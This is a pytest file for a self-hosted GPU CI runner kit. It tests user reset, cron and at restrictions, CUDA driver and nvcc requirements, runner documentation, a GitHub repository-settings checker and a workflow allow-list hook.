            "FLASHMOE_RUNNER_SKEL": str(skel),
            "FLASHMOE_RUNNER_SHARED_TMP": f"{tmp1} {tmp2}",
            "FLASHMOE_RUNNER_CONF": str(tree / "no-conf"),
            "ATQ_USER": user,
        },
        path_prefix=str(bindir),
    )
    assert run.returncode == 0, run.stdout + run.stderr
    assert sorted(p.name for p in home.iterdir()) == [".profile"]
    assert (home / ".profile").read_text() == "# skeleton\n"
    assert home.stat().st_uid == int(subprocess.check_output(["id", "-u", user]))
    assert sorted(p.name for p in tmp1.iterdir()) == ["root.txt"]
    assert (tmp2 / "shared" / "keep.txt").exists() and not (tmp2 / "shared/deep/own.so").exists()
    log = (tree / "tools.log").read_text().splitlines()
    assert f"crontab -r -u {user}" in log and "atrm 12" in log and "atrm 13" not in " ".join(log)


def test_reset_leaves_the_callers_own_user_alone(tree):
    home = tree / "home"
    write(home / ".profile", "mine\n")
    run = register(
        "--dry-run",
        "reset",
        "--user",
        me(),
        env={"FLASHMOE_RUNNER_USER_HOME": str(home), "FLASHMOE_RUNNER_CONF": str(tree / "x")},
    )
    assert run.returncode == 0 and "is this script's own user" in run.stdout
    assert (home / ".profile").read_text() == "mine\n"


@pytest.mark.skipif(not AS_ROOT, reason="no-cron writes files as root")
def test_no_cron_keeps_the_runner_users_out_of_cron_and_at(tree):
    """A process cron or at starts belongs to no job's cgroup: it outlives the job and runs beside
    the next one. The runner users are taken out of cron.allow (other users stay), and where no
    at.allow exists they are listed in at.deny."""
    etc = tree / "etc"
    write(etc / "cron.allow", "alice\nflashmoe-runner-gpu1\n")
    write(etc / "at.deny", "daemon\n")
    env = {"FLASHMOE_RUNNER_ETC": str(etc), "FLASHMOE_RUNNER_CONF": str(tree / "no-conf")}
    for _ in range(2):  # a second run changes nothing
        run = register("no-cron", "--gpus", "0,1", env=env)
        assert run.returncode == 0, run.stdout + run.stderr
        assert (etc / "cron.allow").read_text() == "alice\n"
        assert (etc / "at.deny").read_text() == (
            "daemon\nflashmoe-runner-gpu0\nflashmoe-runner-gpu1\n"
        )
        assert not (etc / "at.allow").exists() and not (etc / "cron.deny").exists()


# ---- the driver and nvcc torch's CUDA needs ----


@pytest.mark.parametrize(
    ("cuda", "driver", "branch", "nvcc"),
    [
        ("13.0", "580.65.06", 580, 13),
        ("12.8", "570.26", 570, 12),
        ("12.8.1", "570.26", 570, 12),
        ("12.6", "560.28.03", 560, 12),
        ("12.4", "550.54.14", 550, 12),
    ],
)
def test_driver_and_nvcc_follow_torchs_cuda(cuda, driver, branch, nvcc):
    needed = rr.requirements_for(cuda)
    assert (needed.driver, needed.driver_branch, needed.nvcc_major) == (driver, branch, nvcc)


def test_unknown_cuda_names_the_known_ones():
    with pytest.raises(ValueError, match=r"cuda: .*'12\.7'.*known: 13\.0, 12\.9"):
        rr.requirements_for("12.7")


def test_installed_versions_are_judged():
    needed = rr.requirements_for("13.0")
    assert rr.driver_ok("580.65.06", needed) and rr.driver_ok("590.44.01", needed)
    assert not rr.driver_ok("575.64.05", needed) and not rr.driver_ok("garbage", needed)
    assert rr.nvcc_ok("13.1", needed) and not rr.nvcc_ok("12.9", needed)


def test_requirements_command_fails_on_an_old_driver(capsys):
    assert rr.main(["--cuda", "13.0", "--driver", "575.51.03", "--nvcc", "13.0"]) == 255
    out = capsys.readouterr().out
    assert "FAIL  driver: 575.51.03 is older than 580.65.06" in out and "branch 580" in out
    assert rr.main(["--cuda", "13.0", "--driver", "580.95.05", "--nvcc", "13.0"]) == 0
    assert rr.main(["--cuda", "11.2"]) == 2


def runner_section() -> str:
    text = (ROOT / "docs" / "runners.md").read_text()
    start = text.index("## Self-hosted runners: trust and set-up")
    return text[start : text.index("\n## ", start + 1)]


def test_runner_docs_quote_the_numbers_of_the_projects_torch():
    setup = (ROOT / "scripts" / "setup_environment.sh").read_text()
    assert f"the CUDA {rr.PROJECT_TORCH_CUDA} build" in setup
    needed = rr.requirements_for(rr.PROJECT_TORCH_CUDA)
    section = " ".join(runner_section().split())
    assert f"driver >= {needed.driver} (branch R{needed.driver_branch} or newer)" in section
    assert f"nvcc {needed.nvcc_major}.x" in section


def test_runner_docs_walk_through_the_kit():
    section = " ".join(runner_section().split())
    for needle in (
        "scripts/runner/SETTINGS.md",
        "scripts/runner/check-settings.py OWNER/REPO",
        "register.sh preflight",
        "register.sh --dry-run install --repo OWNER/REPO",
        "Administration: Read and write",
        "/etc/flashmoe-runner/github-token",
        "CUDA_VISIBLE_DEVICES=N",
        "ACTIONS_RUNNER_HOOK_JOB_STARTED",
        "--no-install",
        "scripts/act/gpu-job.sh --check",
        "generate-jitconfig",
        "flashmoe-science/gpu",
        "HOST-gpuN-TIME",
    ):
        assert needle in section, needle
    # what register.sh and gpu-ci.yml no longer do: a registration token, a job that installs
    # from a package index, gpu-gate's own check run as the required one
    for stale in ("--unattended --ephemeral", "PIP_INDEX_URL", "`gpu-gate` as the required check"):
        assert stale not in section, stale


# ---- the runner's interpreter: one place decides it ----


def test_the_job_takes_its_interpreter_from_the_runners_env():
    yaml = pytest.importorskip("yaml")
    workflow = yaml.safe_load((ROOT / ".github" / "workflows" / "gpu-ci.yml").read_text())
    job = workflow["jobs"]["gpu"]
    assert "RUNNER_PYTHON" not in job.get("env", {})  # a job-level value would override the .env
    assert "FLASHMOE_RUNNER_PYTHON" not in job.get("env", {})
    text = (ROOT / ".github" / "workflows" / "gpu-ci.yml").read_text()
    assert "vars.FLASHMOE_RUNNER_PYTHON" not in text
    step = next(s for s in job["steps"] if "setup_environment.sh" in s.get("run", ""))
    default = "/opt/torch/.venv/bin/python3"
    assert f'--python "${{FLASHMOE_RUNNER_PYTHON:-{default}}}"' in step["run"]
    assert "FLASHMOE_RUNNER_PYTHON=@PYTHON@" in (RUNNER / "runner.env").read_text()
    assert f'PYTHON="${{PYTHON:-{default}}}"' in REGISTER.read_text()
    assert "scripts/runner/SETTINGS.md" in text


# ---- repository settings ----


def check_settings(fixture: dict | Path, tmp_path: Path, *args: str):
    if isinstance(fixture, dict):
        path = tmp_path / "answers.json"
        path.write_text(json.dumps(fixture))
        fixture = path
    return subprocess.run(
        [sys.executable, str(CHECK_SETTINGS), REPO, "--fixture", str(fixture), *args],
        capture_output=True,
        text=True,
        timeout=60,
    )


def good_answers() -> dict:
    return json.loads((FIXTURES / "settings-good.json").read_text())


def test_settings_all_good(tmp_path):
    run = check_settings(FIXTURES / "settings-good.json", tmp_path)
    assert run.returncode == 0, run.stdout + run.stderr
    assert [line.split()[:2] for line in run.stdout.splitlines() if line[:1] in "ow"] == [
        ["ok", str(n)] for n in (1, 2, 3, 4, 5, 6, 8, 10, 11, 12)
    ]


@pytest.mark.parametrize(
    ("path", "change", "message"),
    [
        (
            "actions/permissions/fork-pr-contributor-approval",
            {"approval_policy": "first_time_contributors"},
            "FAIL  1  fork pull request approval is 'first_time_contributors'",
        ),
        (
            "actions/permissions/workflow",
            {"default_workflow_permissions": "write", "can_approve_pull_request_reviews": False},
            "FAIL  2  default workflow token: default_workflow_permissions is 'write'",
        ),
        (
            "actions/permissions/workflow",
            {"default_workflow_permissions": "read", "can_approve_pull_request_reviews": True},
            "can_approve_pull_request_reviews is True",
        ),
        ("environments/gpu", None, "FAIL  3  environment `gpu` does not exist"),
        (
            "environments/gpu",
            {"name": "gpu", "protection_rules": []},
            "FAIL  3  environment `gpu` has no required reviewers",
        ),
        ("labels/safe-to-test", None, "FAIL  4  label `safe-to-test` does not exist"),
        (
            "rules/branches/main",
            [],
            "FAIL  8  main does not require the commit status `flashmoe-science/gpu`",
        ),
        (
            "rules/branches/main",
            [
                {
                    "type": "required_status_checks",
                    "parameters": {
                        "required_status_checks": [
                            {"context": "flashmoe-science/gpu", "integration_id": 99}
                        ]
                    },
                }
            ],
            "FAIL  8  `flashmoe-science/gpu` is required from app [99]",
        ),
        ("environments/pypi", None, "FAIL  11  environment `pypi` does not exist"),
        (
            "environments/pypi",
            {"name": "pypi", "protection_rules": []},
            "FAIL  11  environment `pypi` has no required reviewers",
        ),
        (
            "environments/pypi/deployment-branch-policies",
            {"branch_policies": [{"name": "v*", "type": "tag"}, {"name": "*", "type": "branch"}]},
            "FAIL  11  environment `pypi` deploys from branch *, not tags v*",
        ),
        (
            "rulesets?includes_parents=true&per_page=100",
            [{"id": 5, "name": "release tags", "target": "tag", "enforcement": "evaluate"}],
            "FAIL  12  no active tag ruleset restricts creating, moving and deleting v* tags",
        ),
        (
            "rulesets/5",
            {
                "conditions": {"ref_name": {"include": ["refs/tags/release-*"]}},
                "rules": [{"type": "creation"}, {"type": "update"}, {"type": "deletion"}],
            },
            "FAIL  12  no active tag ruleset",
        ),
        (
            "rulesets/5",
            {
                "conditions": {"ref_name": {"include": ["~ALL"]}},
                "rules": [{"type": "deletion"}],
            },
            "FAIL  12  no active tag ruleset",
        ),
        (
            "rules/branches/bench-history",
            [{"type": "deletion"}, {"type": "pull_request"}],
            "FAIL  10  `bench-history` is covered by: pull_request",
        ),
        (
            "branches/bench-history/protection",
            {"required_signatures": {"enabled": True}},
            "FAIL  10  `bench-history` is covered by: required_signatures",
        ),
    ],
)
def test_settings_flag_a_bad_setting(tmp_path, path, change, message):
    answers = good_answers()
    key = f"repos/{REPO}/{path}"
    if change is None:
        del answers[key]
    else:
        answers[key] = change
    run = check_settings(answers, tmp_path)
    assert run.returncode == 1, run.stdout
    assert message in run.stdout and "fix:" in run.stdout


@pytest.mark.parametrize("with_status", [False, True])
def test_settings_fail_when_main_requires_the_gate_jobs_check(tmp_path, with_status):
    """Requiring the check `gpu-gate` is spoofable or never satisfiable: pull_request_target
    attaches the gate job's check run to main's commit, so on a PR's head a check of that name can
    only come from the PR's own `pull_request` workflow (a fork adds a job named gpu-gate). Only
    the commit status the gate sets on the head counts."""
    answers = good_answers()
    checks = [{"context": "gpu-gate", "integration_id": 15368}]
    if with_status:
        checks.append({"context": "flashmoe-science/gpu", "integration_id": 15368})
    answers[f"repos/{REPO}/rules/branches/main"] = [
        {"type": "required_status_checks", "parameters": {"required_status_checks": checks}}
    ]
    run = check_settings(answers, tmp_path)
    assert run.returncode == 1, run.stdout
    assert "FAIL  8  main requires the check `gpu-gate`" in run.stdout
    assert "add `flashmoe-science/gpu`" in run.stdout and "remove `gpu-gate`" in run.stdout
    # Branch protection (no ruleset) the same way.
    answers[f"repos/{REPO}/rules/branches/main"] = []
    answers[f"repos/{REPO}/branches/main/protection/required_status_checks"] = {
        "contexts": ["gpu-gate"],
        "checks": [{"context": "gpu-gate", "app_id": 15368}],
    }
    run = check_settings(answers, tmp_path)
    assert run.returncode == 1 and "FAIL  8  main requires the check `gpu-gate`" in run.stdout


def test_settings_unreadable_is_a_skip_not_a_pass(tmp_path):
    answers = good_answers()
    answers[f"repos/{REPO}/actions/permissions/workflow"] = {"__status__": 403}
    run = check_settings(answers, tmp_path)
    assert run.returncode == 0
    assert "skip  2  default workflow token: could not read it (HTTP 403)" in run.stdout


def test_settings_check_an_organisation_runner_group(tmp_path):
    answers = good_answers()
    answers["orgs/octo/actions/runner-groups"] = {
        "runner_groups": [
            {"id": 4, "name": "gpu", "visibility": "selected", "restricted_to_workflows": False}
        ]
    }
    answers["orgs/octo/actions/runner-groups/4/repositories"] = {
        "repositories": [{"full_name": REPO}, {"full_name": "octo/other"}]
    }
    run = check_settings(answers, tmp_path, "--org", "octo", "--runner-group", "gpu")
    assert run.returncode == 1
    assert "shared with octo/other" in run.stdout
    assert "not restricted to selected workflows" in run.stdout


def test_settings_reject_a_bad_fixture_or_repo(tmp_path):
    (tmp_path / "list.json").write_text("[]")
    run = check_settings(tmp_path / "list.json", tmp_path)
    assert run.returncode == 2 and "expected a JSON object" in run.stderr
    bad = subprocess.run(
        [sys.executable, str(CHECK_SETTINGS), "not-a-repo"], capture_output=True, text=True
    )
    assert bad.returncode == 2 and "OWNER/REPO" in bad.stderr


# ---- the workflow allow-list (where a runner group cannot restrict the runner) ----

ALLOWED = "o/r/.github/workflows/gpu-ci.yml@refs/heads/main"


@pytest.mark.parametrize(
    ("ref", "ok"),
    [
        (ALLOWED, True),
        ("o/r/.github/workflows/gpu-ci.yml@refs/pull/7/merge", False),  # a PR's own copy
        ("o/r/.github/workflows/evil.yml@refs/heads/main", False),
        (None, False),
    ],
)
def test_hook_serves_only_the_allowed_workflow(tree, ref, ok):
    paths = fake_runner(tree)
    env = {"FLASHMOE_RUNNER_ALLOWED_WORKFLOW": ALLOWED}
    if ref is not None:
        env["GITHUB_WORKFLOW_REF"] = ref
    run = run_hook(tree, paths, env=env)
    assert (run.returncode == 0) is ok, run.stdout + run.stderr
    if not ok:
        assert "is not one this runner serves" in run.stderr and "next:" in run.stderr
    assert not paths["git_hook"].exists()  # the workspace is cleaned either way


def test_register_renders_the_allowed_workflow_into_the_env():
    assert (
        "FLASHMOE_RUNNER_ALLOWED_WORKFLOW=@ALLOWED_WORKFLOW@" in (RUNNER / "runner.env").read_text()
    )
    assert "s|@ALLOWED_WORKFLOW@|$REPO/.github/workflows/gpu-ci.yml@refs/heads/main|" in (
        REGISTER.read_text()
    )
